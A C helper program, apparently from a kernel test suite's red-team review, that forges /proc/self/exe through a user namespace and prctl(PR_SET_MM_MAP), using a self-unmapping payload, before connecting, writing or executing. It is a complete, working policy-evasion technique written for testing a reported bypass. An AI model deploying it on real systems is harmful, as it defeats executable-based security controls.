/* From the 2026-12-08 red-team review (tests/kernel/test_bypass_reported.py). */
/* forgeexe: as an unprivileged user, make /proc/self/exe (mm->exe_file) name another binary,
 * then connect or open for writing.
 *
 *   forgeexe FAKE_EXE connect PORT          -> connect(127.0.0.1:PORT)
 *   forgeexe FAKE_EXE open PATH             -> open(PATH, O_WRONLY|O_CREAT), write "pwned\n"
 *   forgeexe FAKE_EXE exec PATH             -> execve(PATH) (exec rules judge the caller)
 *   forgeexe FAKE_EXE sleep SECS            -> just sleep with the forged exe
 *
 * How: unshare(CLONE_NEWUSER) gives CAP_SYS_ADMIN in the new user namespace, which is all
 * prctl(PR_SET_MM, PR_SET_MM_MAP, exe_fd) asks for (kernel/sys.c prctl_set_mm_exe_file). The
 * kernel refuses while the old exe is still mapped, so the program copies a position
 * independent payload to anonymous memory, and that payload unmaps the binary and calls prctl.
 * Prints "OK <result>" / "ERR <stage> <errno>" on stdout.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/prctl.h>
#include <unistd.h>

struct args {
	unsigned long ranges[16][2];
	int nranges;
	struct prctl_mm_map map;
	int op;          /* 1 connect, 2 open, 3 exec, 4 sleep */
	int sock;
	struct sockaddr_in sin;
	char path[512];
	char msg[8];
	char *argv[2];
	struct { long tv_sec, tv_nsec; } ts;
	char out[64];
};

static inline long sc6(long n, long a, long b, long c, long d, long e, long f)
{
	long ret;
	register long r10 asm("r10") = d;
	register long r8 asm("r8") = e;
	register long r9 asm("r9") = f;
	asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8),
		     "r"(r9) : "rcx", "r11", "memory");
	return ret;
}

/* no calls, no globals, no literals: runs from an anonymous copy */
__attribute__((noinline, used, optimize("no-tree-loop-distribute-patterns")))
void payload(struct args *a)
{
	long r;
	for (int i = 0; i < a->nranges; i++)
		sc6(11 /* munmap */, a->ranges[i][0], a->ranges[i][1] - a->ranges[i][0], 0, 0, 0, 0);
	r = sc6(157 /* prctl */, PR_SET_MM, PR_SET_MM_MAP, (long)&a->map, sizeof(a->map), 0, 0);
	char *o = a->out;
	if (r < 0) {
		o[0] = 'E'; o[1] = 'R'; o[2] = 'R'; o[3] = ' '; o[4] = 'p';
		o[5] = ' '; r = -r;
		o[6] = '0' + (r / 10) % 10; o[7] = '0' + r % 10; o[8] = '\n';
		sc6(1, 1, (long)o, 9, 0, 0, 0);
		sc6(231, 3, 0, 0, 0, 0, 0);
	}
	if (a->op == 1)
		r = sc6(42 /* connect */, a->sock, (long)&a->sin, sizeof(a->sin), 0, 0, 0);
	else if (a->op == 2) {
		r = sc6(257 /* openat */, AT_FDCWD, (long)a->path, O_WRONLY | O_CREAT, 0644, 0, 0);
		if (r >= 0)
			sc6(1, r, (long)a->msg, 6, 0, 0, 0);
	} else if (a->op == 3) {
		r = sc6(59 /* execve */, (long)a->path, (long)a->argv, 0, 0, 0, 0);
	} else {
		r = sc6(35 /* nanosleep */, (long)&a->ts, 0, 0, 0, 0, 0);
	}
	if (r < 0) {
		o[0] = 'E'; o[1] = 'R'; o[2] = 'R'; o[3] = ' '; o[4] = 'o';
		o[5] = ' '; r = -r;
	} else {
		o[0] = 'O'; o[1] = 'K'; o[2] = ' '; o[3] = ' '; o[4] = ' ';
		o[5] = ' ';
	}
	o[6] = '0' + (r / 10) % 10; o[7] = '0' + r % 10; o[8] = '\n';
	sc6(1, 1, (long)o, 9, 0, 0, 0);
	sc6(231, r < 0 ? 1 : 0, 0, 0, 0, 0, 0);
}

static unsigned long stat_field(const char *stat, int n)
{
	/* fields after the ")" of comm; field 3 is the first */
	const char *p = strrchr(stat, ')') + 2;
	for (int i = 3; i < n; i++)
		p = strchr(p, ' ') + 1;
	return strtoul(p, NULL, 10);
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage\n");
		return 2;
	}
	struct args a;
	memset(&a, 0, sizeof(a));
	char self[512];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	self[n] = 0;

	if (unshare(CLONE_NEWUSER) < 0) {
		printf("ERR unshare %d\n", 0);
		return 1;
	}
	int exe_fd = open(argv[1], O_RDONLY);
	if (exe_fd < 0) {
		perror("open fake exe");
		return 1;
	}
	if (!strcmp(argv[2], "connect")) {
		a.op = 1;
		a.sock = socket(AF_INET, SOCK_STREAM, 0);
		a.sin.sin_family = AF_INET;
		a.sin.sin_port = htons(atoi(argv[3]));
		a.sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	} else if (!strcmp(argv[2], "open")) {
		a.op = 2;
	} else if (!strcmp(argv[2], "exec")) {
		a.op = 3;
	} else {
		a.op = 4;
		a.ts.tv_sec = atoi(argv[3]);
	}
	strncpy(a.path, argv[3], sizeof(a.path) - 1);
	memcpy(a.msg, "pwned\n", 6);
	a.argv[0] = a.path;
	a.argv[1] = NULL;

	FILE *f = fopen("/proc/self/maps", "r");
	char line[1024];
	while (fgets(line, sizeof(line), f)) {
		unsigned long lo, hi;
		char path[512] = "";
		sscanf(line, "%lx-%lx %*s %*s %*s %*s %511s", &lo, &hi, path);
		if (!strcmp(path, self) && a.nranges < 16) {
			a.ranges[a.nranges][0] = lo;
			a.ranges[a.nranges][1] = hi;
			a.nranges++;
		}
	}
	fclose(f);

	char stat[4096];
	int sfd = open("/proc/self/stat", O_RDONLY);
	n = read(sfd, stat, sizeof(stat) - 1);
	stat[n] = 0;
	close(sfd);
	a.map.start_code = stat_field(stat, 26);
	a.map.end_code = stat_field(stat, 27);
	a.map.start_stack = stat_field(stat, 28);
	a.map.start_data = stat_field(stat, 45);
	a.map.end_data = stat_field(stat, 46);
	a.map.start_brk = stat_field(stat, 47);
	a.map.arg_start = stat_field(stat, 48);
	a.map.arg_end = stat_field(stat, 49);
	a.map.env_start = stat_field(stat, 50);
	a.map.env_end = stat_field(stat, 51);
	a.map.brk = (unsigned long)sbrk(0);
	a.map.auxv = NULL;
	a.map.auxv_size = 0;
	a.map.exe_fd = exe_fd;

	void *mem = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(mem, (void *)payload, 4096);
	fflush(stdout);
	((void (*)(struct args *))mem)(&a);
	return 0;
}
